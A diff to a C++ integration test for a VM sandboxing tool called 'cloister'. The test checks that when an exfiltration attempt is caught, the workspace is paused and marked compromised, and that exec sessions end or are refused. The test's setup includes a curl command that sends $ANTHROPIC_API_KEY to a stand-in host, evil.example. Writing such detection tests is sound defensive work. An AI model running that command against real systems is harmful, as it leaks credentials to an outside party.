@@ -17,6 +17,10 @@
 // (they can find). Finally the placeholder toward a host outside its scope is refused
 // (451), the workspace is marked compromised, the VM paused, `ls`/`trace leaks` show it, and the
 // next start is refused.
+// Lifecycle (lifecycle/lifecycle.h), in the same boot: the workspace is started with `start -d`
+// and the first `exec` waits for READY instead of failing with "booting"; when the detector
+// pauses the VM, an exec session that was open ends at once naming the pause and the wipe, `ls`
+// says paused, and a new exec is refused the same way.
 #include <stdlib.h>
 #include <unistd.h>
 
@@ -139,7 +143,8 @@ TEST_F(WireVmTest, RealClientsInTheGuestGetPlaceholdersAndOnlyTheHostSwapsThem) 
   Create("ws");
   ASSERT_EQ(Cloister({"cred", "add", "ws", "anthropic"}, kReal + "\n").exit_code, 0);
   ASSERT_EQ(Cloister({"cred", "add", "ws", "github"}, kRealGithub + "\n").exit_code, 0);
-  auto started = Cloister({"start", "ws", "--accel", "tcg"});
+  // Detached: returns once QEMU runs; the next exec waits for the guest agent's READY.
+  auto started = Cloister({"start", "ws", "--accel", "tcg", "-d"});
   ASSERT_EQ(started.exit_code, 0) << started.err;
   int code = -1;
   // The real clients the wire proofs use are in the test image (recipe 3).
@@ -295,6 +300,20 @@ kill $bg; rm -f $R $P
   // curl's exit status comes back, so the exec runs with a short host-side timeout and the proof
   // is read on the host: the store's flag, the supervisor's log and the fake's request count.
   const size_t before = (*fake)->requests().size();
+  // An exec session open across the pause (it would run for 10 minutes): it must end at once.
+  Result<RunOutput> open_session = Error(ErrorCode::kInternal, "not run");
+  std::thread session([&] {
+    RunOptions o;
+    o.timeout = std::chrono::seconds(300);
+    o.env_set = env_;
+    open_session = RunProcess({exe_, "--store", root_, "exec", "ws", "--", "sleep", "600"}, o);
+  });
+  // (It is open once its sleep runs in the guest.)
+  auto open_deadline = Clock::now() + std::chrono::seconds(120);
+  while (Exec("for p in /proc/[0-9]*; do cat $p/cmdline 2>/dev/null | tr '\\0' ' '; echo; done | "
+                    "grep -q '^sleep 600' && echo up") != "up\n" && Clock::now() < open_deadline) {
+    std::this_thread::sleep_for(std::chrono::milliseconds(200));  // polling the guest, bounded
+  }
   {
     RunOptions o;
     o.timeout = std::chrono::seconds(120);
@@ -304,7 +323,9 @@ kill $bg; rm -f $R $P
                          "$ANTHROPIC_API_KEY\" https://evil.example/collect"},
                         o);
     ASSERT_TRUE(r.ok());
-    if (!r->timed_out) {
+    // The pause ends the session (the stream closes); if curl's status came back first, it is 451.
+    EXPECT_FALSE(r->timed_out) << "an exec in a paused VM must end, not hang";
+    if (!r->timed_out && r->err.find("is paused") == std::string::npos) {
       EXPECT_EQ(r->out, "451");
     }
   }
@@ -333,6 +354,23 @@ kill $bg; rm -f $R $P
   EXPECT_NE(blocked.out.find("evil.example"), std::string::npos) << blocked.out;
   auto ls = Cloister({"ls", "--json"});
   EXPECT_NE(ls.out.find("\"compromised\": true"), std::string::npos) << ls.out;
+
+  // Paused is a state: ls says so, the open session ended naming why and the fix, and a new
+  // exec is refused the same way.
+  session.join();
+  ASSERT_TRUE(open_session.ok()) << open_session.error().ToString();
+  EXPECT_FALSE(open_session->timed_out) << "the open exec session outlived the pause";
+  EXPECT_NE(open_session->exit_code, 0);
+  EXPECT_NE(open_session->err.find("exec ended: ws is paused"), std::string::npos)
+      << open_session->err;
+  EXPECT_NE(open_session->err.find("evil.example"), std::string::npos) << open_session->err;
+  EXPECT_NE(open_session->err.find("cloister wipe ws"), std::string::npos) << open_session->err;
+  EXPECT_EQ(DeriveStatus(paths).state, VmState::kPaused);
+  EXPECT_NE(ls.out.find("\"state\": \"paused\""), std::string::npos) << ls.out;
+  auto refused = Cloister({"exec", "ws", "--", "true"});
+  EXPECT_NE(refused.exit_code, 0);
+  EXPECT_NE(refused.err.find("ws is paused"), std::string::npos) << refused.err;
+  EXPECT_NE(refused.err.find("cloister wipe ws"), std::string::npos) << refused.err;
 
   ASSERT_EQ(Cloister({"stop", "ws", "--force"}).exit_code, 0);
   auto again = Cloister({"start", "ws", "--accel", "tcg"});
